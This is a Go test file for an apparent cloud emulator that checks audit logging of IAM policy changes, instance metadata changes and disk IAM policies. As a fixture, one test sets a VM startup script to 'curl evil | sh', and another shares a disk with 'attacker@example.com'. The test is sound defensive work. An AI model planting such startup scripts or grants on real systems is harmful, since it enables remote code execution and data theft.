//lint:file-ignore SA1019 serviceData is deprecated in the proto, yet what IAM writes for SetIamPolicy

package audit_test

import (
	"context"
	"strings"
	"testing"

	"cloud.google.com/go/compute/apiv1/computepb"
	"cloud.google.com/go/iam/apiv1/iampb"
	iamlogging "google.golang.org/genproto/googleapis/iam/v1/logging"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/fieldmaskpb"

	"github.com/cloudcoop/coopguard/test/emulator"
	"github.com/cloudcoop/coopguard/test/emulator/audit"
)

// TestSetIamPolicyWritesPolicyDelta: Resource Manager's SetIamPolicy
// entry carries serviceData.policyDelta, the bindings and audit configs
// the call added and removed; a refused call carries none.
func TestSetIamPolicyWritesPolicyDelta(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	w.emu.ResourceManager.SetPolicy(project, &iampb.Policy{
		Bindings:     []*iampb.Binding{{Role: "roles/owner", Members: []string{"user:" + emulator.Operator}}},
		AuditConfigs: []*iampb.AuditConfig{{Service: "allServices", AuditLogConfigs: []*iampb.AuditLogConfig{{LogType: iampb.AuditLogConfig_ADMIN_READ}}}},
	})
	op := w.clients(t, emulator.Operator)
	res := "projects/" + project
	pol, err := op.Projects.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: res})
	if err != nil {
		t.Fatal(err)
	}
	pol.Bindings = append(pol.Bindings, &iampb.Binding{Role: "roles/iap.tunnelResourceAccessor", Members: []string{"serviceAccount:" + sandbox}})
	pol.AuditConfigs = nil
	if _, err := op.Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: pol,
		UpdateMask: &fieldmaskpb.FieldMask{Paths: []string{"bindings", "etag", "audit_configs"}}}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.clients(t, sandbox).Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: pol}); err == nil {
		t.Fatal("SetIamPolicy by the sandbox succeeded")
	}
	got := w.entries("SetIamPolicy")
	if len(got) != 2 {
		t.Fatalf("%d SetIamPolicy entries, want 2", len(got))
	}
	var data iamlogging.AuditData
	if got[0].GetServiceData() == nil || got[0].GetServiceData().UnmarshalTo(&data) != nil {
		t.Fatalf("serviceData = %v, want google.iam.v1.logging.AuditData", got[0].GetServiceData())
	}
	want := &iampb.PolicyDelta{
		BindingDeltas:     []*iampb.BindingDelta{{Action: iampb.BindingDelta_ADD, Role: "roles/iap.tunnelResourceAccessor", Member: "serviceAccount:" + sandbox}},
		AuditConfigDeltas: []*iampb.AuditConfigDelta{{Action: iampb.AuditConfigDelta_REMOVE, Service: "allServices", LogType: "ADMIN_READ"}},
	}
	if !proto.Equal(data.GetPolicyDelta(), want) {
		t.Errorf("policyDelta = %v, want %v", data.GetPolicyDelta(), want)
	}
	if got[1].GetServiceData() != nil {
		t.Errorf("the refused call's entry carries serviceData %v", got[1].GetServiceData())
	}
}

// TestSetMetadataWritesMetadataDelta: instances.setMetadata's entry
// carries metadata.instanceMetadataDelta, the keys (never values) added,
// modified and deleted.
func TestSetMetadataWritesMetadataDelta(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	op := w.clients(t, emulator.Operator)
	item := func(k, v string) *computepb.Items {
		return &computepb.Items{Key: proto.String(k), Value: proto.String(v)}
	}
	operatorVM(t, op, &computepb.Instance{
		Metadata: &computepb.Metadata{Items: []*computepb.Items{item("keep", "1"), item("note", "a"), item("gone", "x")}},
	})
	in, err := op.Instances.Get(ctx, &computepb.GetInstanceRequest{Project: project, Zone: zone, Instance: "vm"})
	if err != nil {
		t.Fatal(err)
	}
	set, err := op.Instances.SetMetadata(ctx, &computepb.SetMetadataInstanceRequest{Project: project, Zone: zone, Instance: "vm",
		MetadataResource: &computepb.Metadata{Fingerprint: in.GetMetadata().Fingerprint,
			Items: []*computepb.Items{item("keep", "1"), item("note", "b"), item("startup-script", "curl evil | sh")}}})
	if err == nil {
		err = set.Wait(ctx)
	}
	if err != nil {
		t.Fatal(err)
	}
	got := w.entries("v1.compute.instances.setMetadata")
	if len(got) != 1 {
		t.Fatalf("%d setMetadata entries, want 1", len(got))
	}
	delta := got[0].GetMetadata().GetFields()["instanceMetadataDelta"].GetStructValue().AsMap()
	want := map[string][]any{"addedMetadataKeys": {"startup-script"}, "modifiedMetadataKeys": {"note"}, "deletedMetadataKeys": {"gone"}}
	for k, v := range want {
		if g, _ := delta[k].([]any); len(g) != len(v) || g[0] != v[0] {
			t.Errorf("instanceMetadataDelta.%s = %v, want %v", k, delta[k], v)
		}
	}
	if len(delta) != len(want) {
		t.Errorf("instanceMetadataDelta = %v, want only %v", delta, want)
	}
}

// TestDiskIamPolicy: disks.setIamPolicy (Admin Activity, needs
// compute.disks.setIamPolicy) stores and answers the policy at once; a
// stale etag is 412; getIamPolicy returns it; the sandbox's account is
// refused and audited with status 7.
func TestDiskIamPolicy(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	op := w.clients(t, emulator.Operator)
	operatorVM(t, op, &computepb.Instance{})
	share := &computepb.Policy{Bindings: []*computepb.Binding{{Role: proto.String("roles/compute.storageAdmin"), Members: []string{"user:attacker@example.com"}}}}
	set, err := op.Disks.SetIamPolicy(ctx, &computepb.SetIamPolicyDiskRequest{Project: project, Zone: zone, Resource: "vm",
		ZoneSetPolicyRequestResource: &computepb.ZoneSetPolicyRequest{Policy: share}})
	if err != nil {
		t.Fatal(err)
	}
	got, err := op.Disks.GetIamPolicy(ctx, &computepb.GetIamPolicyDiskRequest{Project: project, Zone: zone, Resource: "vm"})
	if err != nil || len(got.GetBindings()) != 1 || got.GetBindings()[0].GetMembers()[0] != "user:attacker@example.com" || got.GetEtag() != set.GetEtag() {
		t.Errorf("getIamPolicy = %v, %v; want the shared policy", got, err)
	}
	stale := proto.Clone(share).(*computepb.Policy)
	stale.Etag = proto.String("stale")
	if _, err := op.Disks.SetIamPolicy(ctx, &computepb.SetIamPolicyDiskRequest{Project: project, Zone: zone, Resource: "vm",
		ZoneSetPolicyRequestResource: &computepb.ZoneSetPolicyRequest{Policy: stale}}); err == nil || !strings.Contains(err.Error(), "412") {
		t.Errorf("setIamPolicy with a stale etag = %v, want 412", err)
	}
	if _, err := w.clients(t, sandbox).Disks.SetIamPolicy(ctx, &computepb.SetIamPolicyDiskRequest{Project: project, Zone: zone, Resource: "vm",
		ZoneSetPolicyRequestResource: &computepb.ZoneSetPolicyRequest{Policy: share}}); err == nil {
		t.Error("setIamPolicy by the sandbox succeeded")
	}
	e := w.entries("v1.compute.disks.setIamPolicy")
	if len(e) != 3 || e[0].GetResourceName() != "projects/"+project+"/zones/"+zone+"/disks/vm" || e[2].GetStatus().GetCode() != 7 {
		t.Errorf("setIamPolicy audit entries = %v, want three on the disk, the sandbox's denied", e)
	}
	if ln := w.logNameOf("v1.compute.disks.setIamPolicy"); !strings.HasSuffix(ln, audit.ActivityLog) {
		t.Errorf("setIamPolicy logged in %s, want the activity log", ln)
	}
}
